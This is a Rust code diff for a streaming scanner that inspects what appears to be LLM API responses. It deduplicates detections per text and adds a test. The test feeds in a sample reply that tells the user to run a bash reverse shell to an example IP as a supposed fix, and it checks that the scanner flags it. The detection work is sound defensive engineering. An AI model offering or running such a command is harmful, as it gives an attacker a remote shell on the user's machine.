@@ -55,12 +55,22 @@ pub struct PieceScanner {
     ctx: ScanContext,
     keys: BTreeMap<String, KeyText>,
     reported: HashSet<(&'static str, String)>,
+    /// Patterns already reported per logical text: a command that arrives token by token matches again,
+    /// with a longer value and so another fingerprint, each time its text grows; one finding per pattern
+    /// per text per message is what the operator needs.
+    reported_in_key: HashSet<(String, &'static str)>,
 }
 
 impl PieceScanner {
     /// A scanner for pieces found in `ctx`.
     pub fn new(detector: &Detector, ctx: ScanContext) -> PieceScanner {
-        PieceScanner { detector: detector.clone(), ctx, keys: BTreeMap::new(), reported: HashSet::new() }
+        PieceScanner {
+            detector: detector.clone(),
+            ctx,
+            keys: BTreeMap::new(),
+            reported: HashSet::new(),
+            reported_in_key: HashSet::new(),
+        }
     }
 
     /// Scans one piece; detections go to `found` once a match is complete (for joined texts: at the
@@ -78,6 +88,8 @@ impl PieceScanner {
                         k.scanner.feed(p.text.as_bytes(), &mut new);
                         k.tail.extend_from_slice(p.text.as_bytes());
                         k.grew = true;
+                        let key = p.key.to_owned();
+                        return self.report_in_key(&key, new, found);
                     }
                     None => new = self.detector.scan(self.ctx.clone(), p.text.as_bytes()),
                 }
@@ -91,28 +103,48 @@ impl PieceScanner {
     /// each fed chunk.
     pub fn checkpoint(&mut self, found: &mut Vec<Detection>) {
         let mut new = Vec::new();
-        for k in self.keys.values_mut().filter(|k| k.grew) {
+        for (key, k) in self.keys.iter_mut().filter(|(_, k)| k.grew) {
             k.grew = false;
-            new.extend(self.detector.scan(self.ctx.clone(), &k.tail));
+            new.push((key.clone(), self.detector.scan(self.ctx.clone(), &k.tail)));
             let cut = k.tail.len().saturating_sub(CHECK_WINDOW_BYTES);
             k.tail.drain(..cut);
         }
-        self.report(new, found);
+        for (key, d) in new {
+            self.report_in_key(&key, d, found);
+        }
     }
 
     /// Ends every logical text (what a scanner still holds is reported) and starts afresh.
     pub fn finish(&mut self, found: &mut Vec<Detection>) {
         self.checkpoint(found);
-        let mut new = Vec::new();
-        for (_, mut k) in std::mem::take(&mut self.keys) {
+        for (key, mut k) in std::mem::take(&mut self.keys) {
+            let mut new = Vec::new();
             k.scanner.finish(&mut new);
+            self.report_in_key(&key, new, found);
         }
-        self.report(new, found);
     }
 
     /// Logical texts open.
     pub fn keys(&self) -> usize {
         self.keys.len()
+    }
+
+    /// Passes on the detections of logical text `key` whose pattern was not reported for it yet.
+    fn report_in_key(&mut self, key: &str, new: Vec<Detection>, found: &mut Vec<Detection>) {
+        let fresh: Vec<Detection> = new
+            .into_iter()
+            .filter(|d| {
+                let id = (key.to_owned(), d.pattern);
+                if self.reported_in_key.contains(&id) {
+                    return false;
+                }
+                if self.reported_in_key.len() < MAX_REPORTED {
+                    self.reported_in_key.insert(id);
+                }
+                true
+            })
+            .collect();
+        self.report(fresh, found);
     }
 
     /// Passes on the detections whose value was not reported yet.
@@ -176,5 +208,32 @@ impl StreamBody {
             Decoder::Ndjson(d) => d.finish(&mut on_piece),
         }
         pieces.finish(found);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::detect::{Destination, Direction, Location};
+
+    #[test]
+    fn a_command_arriving_token_by_token_is_reported_once_per_pattern() {
+        let ctx = ScanContext::new(Direction::Inbound, Destination::new("llm.example", 443), Location::Body);
+        let mut body = StreamBody::sse(&crate::detect::shared_default(), ctx);
+        let reply = "To fix it, run `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1` and try again.";
+        let mut found = Vec::new();
+        for piece in reply.as_bytes().chunks(6) {
+            let text = String::from_utf8_lossy(piece);
+            let event = serde_json::json!({"choices": [{"index": 0, "delta": {"content": text}}]});
+            body.feed(format!("data: {event}\n\n").as_bytes(), &mut found);
+        }
+        body.feed(b"data: [DONE]\n\n", &mut found);
+        body.finish(&mut found);
+        let mut patterns: Vec<&str> = found.iter().map(|d| d.pattern).collect();
+        assert!(patterns.contains(&"reverse_shell"), "{patterns:?}");
+        let n = patterns.len();
+        patterns.sort();
+        patterns.dedup();
+        assert_eq!(patterns.len(), n, "a pattern was reported twice for one text: {found:?}");
     }
 }
